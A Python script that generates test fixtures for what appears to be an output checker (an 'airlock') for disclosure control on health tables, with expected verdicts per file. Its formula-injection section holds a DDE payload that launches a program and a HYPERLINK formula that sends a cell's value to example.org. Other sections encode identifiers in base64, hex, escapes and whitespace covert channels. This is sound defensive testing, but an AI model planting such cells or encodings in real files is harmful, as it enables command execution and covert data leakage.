#!/usr/bin/env python3
"""Writes fixtures/faults: files that reach an airlock by accident or on purpose, and what must come of each.

Usage: make_faults.py [FOLDER]

Every row of the catalogue of faults is a folder, `NN-name`. `expectations.tsv` says of each file under which
ruleset it is checked, which verdict and exit status it must get, which rules must be among its findings, and why.
The expectations are written here by hand, from the contract; nothing in them comes from the checker's output.
The same bytes are written on every run.
"""

import base64
import gzip
import pathlib
import sys
import zlib

ROOT = pathlib.Path(__file__).resolve().parent.parent
STATUS = {"pass": 0, "review": 3, "fail": 1, "error": 2}

entries = []
target = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else ROOT / "fixtures" / "faults")


def add(row, name, content, verdict, rules="-", note="", ruleset="sdap", encoding="utf-8"):
    """One file: its bytes, and the verdict it must get with the rules that must be found (space separated)."""
    data = content if isinstance(content, bytes) else content.encode(encoding)
    path = target / row / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    entries.append((f"{row}/{name}", ruleset, verdict, str(STATUS[verdict]), rules or "-", note))


def table(header="patients", value="3", delimiter=",", end="\n"):
    rows = [("region", header), ("North", "120"), ("South", value), ("East", "31"), ("West", "47")]
    return end.join(delimiter.join(row) for row in rows) + end


SMALL = "minimum-threshold"

# 1 undecodable
row = "01-undecodable"
long = b"region,patients\n" + b"".join(b"r%d,%d\n" % (index, 100 + index) for index in range(1_200))
add(row, "bad-byte-at-end.csv", long + "Café,120\n".encode() + b"x\xff,130\n", "error", "unreadable", "UTF-8, and a last line that is none")
add(row, "truncated.csv", "région,patients\nNorth,120\nÉs".encode()[:-2] + b"\n", "error", "unreadable", "a character cut in two")
add(row, "truncated-at-end.csv", "région,patients\nNorth,120\nSouth,É".encode()[:-1], "error", "unreadable", "the file ends in a character")
add(row, "surrogate.csv", b"r\xc3\xa9gion,patients\nNor\xed\xa0\x80th,120\nSouth,145\n", "error", "unreadable", "half a pair of UTF-16 in UTF-8")
add(row, "two-encodings.csv", "région,patients\nNord,120\n".encode() + "Île,145\n".encode("cp1252"), "error", "unreadable", "UTF-8 above, Windows-1252 below")
add(row, "windows-1252.csv", table().replace("North", "Île"), "fail", SMALL, "decoded", encoding="cp1252")
add(row, "utf-16.csv", table(), "fail", SMALL, "decoded", encoding="utf-16")
add(row, "utf-16-no-mark.csv", table(), "fail", SMALL, "decoded", encoding="utf-16-be")
add(row, "utf-32.csv", table(), "fail", SMALL, "decoded", encoding="utf-32")
add(row, "utf-16-odd.csv", table(value="130").encode("utf-16") + b"x", "error", "unreadable", "half a unit at the end")
add(row, "utf-16-lone-half.csv", table(value="130").encode("utf-16-le").join([b"\xff\xfe", b"\x00\xd8"]), "error", "unreadable", "half a pair at the end")
add(row, "marked-and-not.csv", b"\xef\xbb\xbfregion,patients\nNorth,120\n\xcele,145\n", "error", "unreadable", "a mark that promises UTF-8")

# 2 header evasion
row = "02-header-evasion"
for name, header in {
    "capitals": "PATIENTS", "spaces": "  patients ", "no-break-space": "\u00a0patients\u00a0", "full-width": "ｐａｔｉｅｎｔｓ",
    "underscores": "number_of_patients", "hyphens": "number-of-patients", "points": "number.of.patients",
    "camel-case": "numberOfPatients", "accents": "pâtiënts",
}.items():
    add(row, f"{name}.csv", table(header), "fail", SMALL, "the same header to a person")
add(row, "homoglyph.csv", table("p\u0430tients"), "fail", SMALL + " mixed-script", "a Cyrillic letter")
add(row, "all-homoglyphs.csv", table("\u0440\u0430t\u0456\u0435nt\u0455"), "fail", SMALL + " mixed-script", "nearly all letters Cyrillic")
add(row, "zero-width.csv", table("pat\u200bients"), "fail", SMALL + " invisible-characters", "a zero-width space")
add(row, "soft-hyphen.csv", table("pa\u00adtients"), "fail", SMALL + " invisible-characters", "a soft hyphen")
add(row, "mark.csv", "patients,region\n120,North\n3,South\n31,East\n", "fail", SMALL, "a mark of byte order in front", encoding="utf-8-sig")
add(row, "two-marks.csv", "\ufeffpatients,region\n120,North\n3,South\n31,East\n", "fail", SMALL + " invisible-characters", "a second mark is none", encoding="utf-8-sig")
add(row, "quoted-newline.csv", table('"number of\npatients"'), "fail", SMALL, "a header in two lines")
add(row, "duplicate.csv", "region,patients,patients\nNorth,120,130\nSouth,45,3\nEast,31,66\n", "fail", SMALL + " malformed-table", "two columns of one name")
add(row, "none.csv", "North,120\nSouth,3\nEast,31\n", "review", SMALL, "no header: what the numbers are is not sure")

# 3 dialect
row = "03-dialect"
for name, delimiter in {"semicolon": ";", "tab": "\t", "pipe": "|"}.items():
    add(row, f"{name}.csv", table(delimiter=delimiter), "fail", SMALL, "another delimiter")
add(row, "lone-returns.csv", table(end="\r"), "fail", SMALL, "lines end in CR")
add(row, "mixed-ends.csv", "region,patients\r\nNorth,120\nSouth,3\r\nEast,31\n", "fail", SMALL, "two kinds of line end")
add(row, "three-ends.csv", "region,patients\nNorth,120\rSouth,3\r\nEast,31\n", "fail", SMALL, "three kinds of line end")
add(row, "unclosed-quote.csv", 'region,patients\nNorth,120\n"South,3\nEast,31\n', "error", "malformed-table", "everything behind may be one cell")
add(row, "ragged.csv", "region,patients\nNorth,120\nSouth,3,9\nEast\nWest,47\n", "fail", SMALL + " malformed-table", "all rows are read")
add(row, "preamble-and-notes.csv", "Table 1. Patients by region\nExtracted in 2023\n\n" + table() + "\nSource: records\n", "fail", SMALL, "titles above, a note below")
add(row, "two-tables.csv", "region,patients\nNorth,120\nSouth,45\nEast,31\n\nage,patients\n18-39,120\n40-64,3\n65+,73\n", "fail", SMALL, "the small number is in the second table")
add(row, "two-header-rows.csv", ",patients,patients\nregion,male,female\nNorth,120,45\nSouth,3,46\nEast,31,47\n", "fail", SMALL, "what is counted stands in the first row")
add(row, "comment-lines.csv", "# made by a script\n" + table(), "fail", SMALL, "a comment is no header")
add(row, "comment-hides-row.csv", "region,patients\nNorth,120\n# South 3\nEast,31\n", "review", "malformed-table", "a row that looks like a comment")
add(row, "separator-line.csv", "sep=;\n" + table(delimiter=";"), "fail", SMALL, "what Excel writes in front")
add(row, "single-quotes.csv", "region,patients\n'North, upper',120\nSouth,3\nEast,31\n", "fail", SMALL, "quotes that are none")
add(row, "circumflex.csv", table(delimiter="^"), "review", "malformed-table", "a delimiter that isn't read")
add(row, "colon.csv", table(delimiter=":"), "review", "malformed-table", "a delimiter that isn't read")
add(row, "aligned.csv", "region    patients\nNorth          120\nSouth            3\nEast            31\n", "review", "malformed-table", "columns of a fixed width")
late = "".join(f"r{index},{200 + index}\n" for index in range(9_000)) + "".join(f"s{index};{3 if index == 5 else 300 + index}\n" for index in range(300))
add(row, "delimiter-changes.csv.gz", gzip.compress(("region,patients\n" + late).encode(), 9, mtime=0), "error", "unreadable", "a semicolon behind the sniffed window")

# 4 number evasion
row = "04-number-evasion"
for name, value in {
    "decimal": "5.0", "leading-zeros": "0005", "exponent": "5e0", "full-width": "５", "arabic": "٥", "plus": "+5",
    "footnote": "5*", "dagger": "5†", "point-behind": "5.", "spaces": " 5 ", "no-break-space": "5\u00a0", "quoted": '"5"',
    "apostrophe": "'5", "decimal-comma": "5,0", "full-width-decimal": "５．０", "arabic-decimal": "5٫0", "brackets": "(5)",
    "composite": "5 (16%)", "fraction": "5/12",
}.items():
    add(row, f"{name}.csv", table(value=value, delimiter=";"), "fail", SMALL, "five, whatever it is written like")
for name, value in {
    "words": "five", "roman": "IV", "hexadecimal": "0x5", "half": "½", "circled": "⑤", "superscript": "⁵", "chinese": "五",
    "in-words": "5 people", "formula": "=5", "about": "~5",
    "almost-equal": "≈5", "quotation-marks": "“5”", "minus": "-5", "range": "4-5", "range-dash": "4–5", "plus-behind": "5 +",
    "circa": "c.5", "markup": "<b>5</b>", "french": "cinq", "sum": "2+3", "escape": "\\x35", "letters": "No. 5", "small-words": "a handful",
}.items():
    add(row, f"{name}.csv", table(value=value, delimiter=";"), "review", SMALL, "perhaps five")
for name, value in {"missing": "n/a", "one-letter": "c", "minus-nine": "-9", "dash": "-"}.items():
    add(row, f"none-{name}.csv", table(value=value, delimiter=";"), "pass", "-", "no number, and no disguise of one")
add(row, "thousands.csv", table(value="1,005", delimiter=";"), "pass", "-", "a thousand and five")
add(row, "large.csv", table(value="9007199254740993", delimiter=";"), "pass", "-", "2^53 + 1")
add(row, "large-composite.csv", table(value="41,086 (16%)", delimiter=";"), "pass", "-", "forty thousand")
add(row, "minus-zero.csv", table(value="-0", delimiter=";"), "review", "zero-cell", "zero")
add(row, "not-a-number.csv", table(value="NaN", delimiter=";"), "pass", "-", "nothing")
add(row, "infinite.csv", table(value="Inf", delimiter=";"), "pass", "-", "no small number")
add(row, "bound.csv", table(value="<10", delimiter=";"), "pass", "-", "a mask that the ruleset lists")

# 5 mask evasion
row = "05-mask-evasion"
RECOVER = "recoverable-suppression"
for name, mask in {"star": "*", "redacted": "[REDACTED]", "word": "suppressed", "blank": "", "points": "..", "bound": "<10", "letter": "x", "hyphen": "-"}.items():
    add(row, f"row-{name}.csv", f"region,male,female,total\nNorth,120,{mask},125\nSouth,45,60,105\nEast,31,44,75\nWest,37,51,88\n", "fail", RECOVER, "125 − 120")
add(row, "column.csv", "region,patients\nNorth,120\nSouth,*\nEast,31\nTotal,154\n", "fail", RECOVER, "154 − 151")
add(row, "zero.csv", "region,male,female,total\nNorth,120,0,125\nSouth,45,60,105\nEast,31,44,75\nWest,37,51,88\n", "fail", RECOVER, "zero hides five")
add(row, "zero-that-is-one.csv", "region,mild,moderate,severe,total\nNorth,60,61,0,121\nSouth,45,60,31,136\nEast,31,44,52,127\nWest,37,51,40,128\n", "review", "zero-cell", "zero is zero")

# 6 formulas
row = "06-formulas"
FORMULA = "formula-injection"
for name, cell in {
    "equals": "=1+1", "plus": "+SUM(A1:A9)", "minus": "-2+3+cmd|' /C calc'!A0", "program": "-2+3+cmd|x", "at": "@SUM(1+1)*2", "tab": "\t=1+1", "return": "\r=1+1",
    "space": "  =1+1", "full-width": "＝1+1", "full-width-at": "＠ＳＵＭ（1+1）", "no-break-space": "\u00a0=1+1", "zero-width": "\u200b=1+1",
    "link": '=HYPERLINK("http://example.org/?"&B2,"North")',
}.items():
    add(row, f"{name}.csv", "region,patients\n\"" + cell.replace('"', '""') + "\",120\nSouth,145\n", "fail", FORMULA, "a spreadsheet runs it")
for name, cell in {"apostrophe": "'=1+1", "double-quote": '"=1+1"', "tab-alone": "\tNorth", "handle": "@north"}.items():
    add(row, f"{name}.csv", "region,patients\n\"" + cell.replace('"', '""') + "\",120\nSouth,145\n", "review", FORMULA, "it depends on the program")
add(row, "header.csv", "region,\"=SUM(B2:B3)\"\nNorth,120\nSouth,145\n", "fail", FORMULA, "in the header")
add(row, "none.csv", "region,patients,change,score\n- under 40,120,-12.5,+5.5\n+ve,145,-3.1e-05,+12.25\n-log10(p),131,--,-\n", "pass", "-", "signs that are no formulas")

# 7 invisible
row = "07-invisible"
HIDDEN = "invisible-characters"
for name, characters in {
    "zero-width-space": "\u200b", "zero-width-joiner": "\u200d", "word-joiner": "\u2060", "mark-inside": "\ufeff", "override": "\u202e",
    "isolate": "\u2066", "direction-mark": "\u200f", "tags": "\U000e0041\U000e0042", "selector": "\ufe0f", "selectors": "\U000e0101\U000e0142",
    "soft-hyphen": "\u00ad", "private-use": "\ue001", "control": "\x1b[8m", "filler": "\u3164", "joiner": "\u034f",
    "invisible-times": "\u2062", "line-separator": "\u2028",
}.items():
    add(row, f"{name}.csv", f"region,patients\nNo{characters}rth,120\nSouth,145\n", "fail", HIDDEN, "nobody sees it")
add(row, "number.csv", table(value="13\u200b0"), "fail", HIDDEN, "inside a number")
add(row, "none.csv", "region,patients\nNorth East,1\u00a0204\nSouth\u2009East,1\u202f145\n\u2764\ufe0f,120\n", "pass", "-", "spaces and emoji", encoding="utf-8-sig")

# 8 confusables
row = "08-confusables"
MIXED = "mixed-script"
for name, word in {"cyrillic": "p\u0430tient", "greek": "p\u03b1tient", "cherokee": "\u13a0B", "greek-capital": "\u0391ge", "behind-digits": "HbA1\u0441"}.items():
    add(row, f"{name}.csv", f"region,patients,note\nNorth,120,{word}\nSouth,145,none\n", "review", MIXED, "letters of two scripts")
add(row, "none.csv", "region,patients,note\nМосква,120,β-blocker\nΑθήνα,145,TNFα\nZürich,131,5 µg\nÅlesund,127,χ²\n", "pass", "-", "words of one script, and science")

# 9 encoded
row = "09-encoded"
ENCODED = "encoded-payload"


def noted(value):
    return f"region,patients,note\nNorth,120,{value}\nSouth,145,none\n"


def base64_of(data):
    return base64.b64encode(data).decode()


secret = b"He is the only patient in Whitby"
add(row, "base64-15.csv", noted(base64_of(b"Code four t").rstrip("=")), "pass", "-", "below the limit")
add(row, "base64-16.csv", noted(base64_of(b"Code four tw")), "review", ENCODED, "at the limit: a few letters")
add(row, "base64-17.csv", noted("x" + base64_of(b"Code four tw")), "pass", "-", "no code of this length decodes to text")
add(row, "base64-18.csv", noted(base64_of(b"Code four two").rstrip("=")), "review", ENCODED, "above the limit")
add(row, "hexadecimal-31.csv", noted(b"Code four two th".hex()[:31]), "pass", "-", "below the limit")
add(row, "hexadecimal-32.csv", noted(b"Code four two th".hex()), "review", ENCODED, "at the limit")
add(row, "hexadecimal-33.csv", noted(b"Code four two th".hex() + "6"), "review", ENCODED, "above the limit")
add(row, "identifier.csv", noted(base64_of(b"4010232137")), "fail", ENCODED, "an NHS number")
add(row, "address.csv", noted(base64_of(b"j.smith@nhs.uk, ward 7")), "fail", ENCODED, "an address")
add(row, "identifier-percent.csv", noted("".join(f"%{byte:02X}" for byte in b"4010232137")), "fail", ENCODED, "percent-encoding")
add(row, "identifier-url.csv", noted("401%20023%202137"), "fail", ENCODED, "a spelled number with its spaces escaped")
add(row, "sentence.csv", noted(base64_of(secret)), "fail", ENCODED, "a sentence")
add(row, "sentence-url-safe.csv", noted(base64.urlsafe_b64encode(secret).decode().rstrip("=")), "fail", ENCODED, "the other alphabet")
add(row, "sentence-utf-16.csv", noted(base64_of(secret.decode().encode("utf-16-le"))), "fail", ENCODED, "in UTF-16")
add(row, "sentence-hexadecimal.csv", noted(secret.hex().upper()), "fail", ENCODED, "in hexadecimal")
add(row, "sentence-utf-16-marked.csv", noted(base64_of(secret.decode().encode("utf-16"))), "fail", ENCODED, "in UTF-16 with its mark")
add(row, "gzip.csv", noted(base64_of(gzip.compress(secret, mtime=0))), "fail", ENCODED, "gzip in base64")
add(row, "zlib-hexadecimal.csv", noted(zlib.compress(secret).hex()), "fail", ENCODED, "zlib in hexadecimal")
number = b"4010232137"
for name, written in {
    "escapes": "".join(f"\\x{byte:02x}" for byte in number),
    "escapes-octal": "".join(f"\\{byte:03o}" for byte in number),
    "escapes-unicode": "".join(f"\\u00{byte:02x}" for byte in number),
    "escapes-braces": "".join(f"\\u{{{byte:x}}}" for byte in number),
    "escapes-percent": "".join(f"%u00{byte:02x}" for byte in number),
    "references": "".join(f"&#{byte};" for byte in number),
    "references-hexadecimal": "".join(f"&#x{byte:x};" for byte in number),
    "quoted-printable": "no. " + "".join(f"={byte:02X}" for byte in number),
    "spaced": (b"NHS " + number).hex(" "),
    "digits-in-hexadecimal": number.hex(),
    "base32": base64.b32encode(number).decode(),
    "base32-small": base64.b32encode(number).decode().lower(),
    "base32-ordered": base64.b32hexencode(number).decode(),
    "base85": base64.b85encode(number).decode(),
}.items():
    add(row, f"{name}.csv", noted(written), "fail", ENCODED, "an NHS number")
for name, written in {"base32": base64.b32encode(secret), "base85": base64.b85encode(secret), "ascii85": base64.a85encode(secret)}.items():
    quoted = '"' + written.decode().replace('"', '""') + '"'
    add(row, f"sentence-{name}.csv", noted(quoted), "fail", ENCODED, "a sentence")
add(row, "backslashes.csv", "region,patients,note\nNorth,120,C:\\data\\x12\nSouth,145,R&D &amp; more\nEast,131,12:30:45 41 52 43\n", "pass", "-", "paths and signs")
add(row, "header.csv", f"region,{base64_of(secret)}\nNorth,120\nSouth,145\n", "fail", ENCODED, "in the header")
add(row, "none.csv", "model,digest,patients\nnoninferiorityhypothesis,d41d8cd98f00b204e9800998ecf8427e,120\nCOVID19VaccinationBooster,9e107d9d372bb6826bd81d3542a419d6,145\n", "pass", "-", "words and digests")

# 10 covert
row = "10-covert"


def means(first):
    return f"group,patients,mean\nA,120,{first}\nB,145,31.5\nC,131,30.2\nD,118,28.8\nE,127,29.9\nF,140,26.4\n"


add(row, "digits-17.csv", means("1.2345678901234567"), "pass", "-", "what a computer's numbers need")
add(row, "digits-18.csv", means("1.23456789012345678"), "review", "excess-precision", "one digit more")
add(row, "digits-22.csv", means("27.03628318584070401023"), "review", "excess-precision", "digits that carry data")
add(row, "digits-standing-out.csv", means("27.100401023"), "review", "excess-precision", "one number says more than its column")
add(row, "noise.csv", means("0.30000000000000004"), "pass", "-", "what a calculation leaves behind")
numbers = [str(100 + index) for index in range(24)]
spaced = "".join(f"r{i},{n}{' ' * (i * i * 7 % 11 % 4)}\n" for i, n in enumerate(numbers))
add(row, "spaces.csv", "region,patients\n" + spaced, "review", HIDDEN, "spaces behind numbers")
# Eight bits of a label's number: a tab for one, a space for zero.
bits = [f"{i * 37 % 256:08b}".translate({48: " ", 49: "\t"}) for i in range(len(numbers))]
tabbed = "".join(f"r{i}{bits[i]},{n}\n" for i, n in enumerate(numbers))
add(row, "tabs.csv", "region,patients\n" + tabbed, "review", HIDDEN, "eight bits a label")
one_tab = "".join(f"r{i}{chr(9) * (int(n) % 2)},{n}\n" for i, n in enumerate(numbers))
add(row, "one-tab.csv", "region,patients\n" + one_tab, "review", HIDDEN, "a bit a label")
add(row, "three-cells.csv", "region,patients\nNorth,120 \nSouth,145  \nEast,131   \nWest,118\n", "pass", "-", "too few to say anything")
add(row, "four-cells.csv", "region,patients\nNorth,120 \nSouth,145  \nEast,131   \nWest,118 \nWales,140\n", "review", HIDDEN, "a letter")
add(row, "padding.csv", "region    ,patients\n" + "".join(f"{'r' + str(i):<10},{n}\n" for i, n in enumerate(numbers)), "pass", "-", "filled up to one width")

# 15 file system: what a repository can't hold is made by the test
row = "15-file-system"
safe = table(value="145")
add(row, "patient 401 023 2137.csv", safe, "fail", "nhs-number", "an identifier in a file's name")
add(row, "j.smith@nhs.uk.csv", safe, "fail", "email-address", "an address in a file's name")
add(row, "NDAxMDIzMjEzNw==.csv", safe, "fail", ENCODED, "an encoded identifier in a file's name")

# 16 empty success
row = "16-empty-success"
add(row, "empty.csv", b"", "error", "unreadable", "nothing")
add(row, "spaces.csv", " \n\t\n\r\n", "error", "unreadable", "nothing but spaces")
add(row, "mark-only.csv", b"\xef\xbb\xbf", "error", "unreadable", "nothing but a mark")
add(row, "empty.csv.gz", gzip.compress(b"", mtime=0), "error", "unreadable", "nothing, compressed")

lines = ["# Written by scripts/make_faults.py: file, ruleset, verdict, exit status, rules that must be found, why."]
lines += ["\t".join(entry) for entry in entries]
(target / "expectations.tsv").write_text("\n".join(lines) + "\n", encoding="utf-8")
